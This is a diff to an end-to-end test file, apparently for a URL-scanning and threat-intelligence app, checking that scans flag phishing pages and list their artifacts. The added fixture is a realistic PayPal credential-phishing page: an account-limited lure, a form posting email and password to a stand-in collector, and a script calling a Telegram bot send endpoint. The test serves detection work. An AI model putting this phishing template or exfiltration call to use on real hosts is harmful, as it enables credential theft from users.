@@ -26,8 +26,9 @@ describe("the pages of URL scans", () => {
         response
           .writeHead(200, { "content-type": "text/html" })
           .end(`<!doctype html><html lang="en"><title>Changing page</title><h1>Changing page</h1><p>${text}</p>`),
-      "/collecting": `<!doctype html><html lang="en"><title>Collecting page</title><h1>Mail</h1>
-        <form method="post" action="http://collect.localhost:9102/gate.php"><input type="password" name="p"></form>
+      "/collecting": `<!doctype html><html lang="en"><title>Log in to your PayPal account</title><h1>PayPal</h1>
+        <p>Your account is limited. Log in with your password to verify your identity.</p>
+        <form method="post" action="http://collect.localhost:9102/gate.php"><input type="email" name="login_email"><input type="password" name="login_password"><button>Log In</button></form>
         <script>const bot = () => fetch("https://api.telegram.org/bot7123456789:AA${"q".repeat(33)}/sendMessage")</script>
         <script>var _gaq = "UA-73512345-2"</script>`,
       "/app.js": (_request, response) =>
@@ -221,8 +222,10 @@ describe("the pages of URL scans", () => {
     skip,
   }) => {
     skip(off !== null, off ?? "");
+    const host = "paypal-signin.localhost";
+    const phish = site.at("/collecting", host);
     const page = await pages.goOn("/scan");
-    await scan(page, site.at("/collecting"));
+    await scan(page, phish);
     const artifacts = region(page, "Artifacts");
     await artifacts.waitFor({ timeout: 60_000 });
     const shown = (await artifacts.textContent()) ?? "";
@@ -230,12 +233,12 @@ describe("the pages of URL scans", () => {
     expect(shown).toMatch(/https:\/\/api\.telegram\.org\/bot7123…qqqq\/sendMessage/);
     const address = pathOf(page);
     await artifacts.getByRole("link", { name: "scans that post there" }).first().click();
-    const link = page.getByRole("main").getByRole("link", { name: site.at("/collecting"), exact: true });
+    const link = page.getByRole("main").getByRole("link", { name: phish, exact: true });
     await expect(link.first()).toBeVisible();
     expect(await page.getByRole("main").textContent()).toContain("http://collect.localhost:9102/gate.php");
 
     for (const [kind, value, words] of [
-      ["text", "Collecting page", "Scans with the same title"],
+      ["text", "Log in to your PayPal account", "Scans with the same title"],
       ["tracker", "UA-73512345-2", "Scans with the same tracker"],
       ["text", "UA-73512345-2", "Scans with the same tracker"],
     ] as const) {
@@ -250,12 +253,23 @@ describe("the pages of URL scans", () => {
     await expect(page.getByText("None of the scans that you may see has it.")).toBeVisible();
 
     await goWithin(page, "/search?input=collect.localhost&type=domain");
-    await expect(
-      region(page, "URL scans")
-        .getByRole("link", { name: site.at("/collecting") })
-        .first(),
-    ).toBeVisible();
-    await goWithin(page, address);
+    await expect(region(page, "URL scans").getByRole("link", { name: phish }).first()).toBeVisible();
+
+    // What a scan took for phishing is told where nothing else is known of the name.
+    await goWithin(page, `/search?input=${host}&type=domain`);
+    await expect(region(page, "URL scans").getByText("Malicious")).toBeVisible();
+    const words = /Unknown to lists; a scan of \d+ \w+ \d{4}, [\d:]+ .* took it for phishing/;
+    await expect(page.getByRole("article").locator("header").getByText(words)).toBeVisible();
+    expect(await region(page, "Why this risk").textContent()).toMatch(
+      /No list speaks for or against this domain; a scan/,
+    );
+    expect(await page.getByRole("main").textContent()).not.toMatch(/no evidence/i);
+    await page
+      .getByRole("article")
+      .locator("header")
+      .getByRole("link", { name: /^a scan of/ })
+      .click();
+    await eventually(() => pathOf(page)).toBe(address);
     await expect(artifacts).toBeVisible();
   });
 
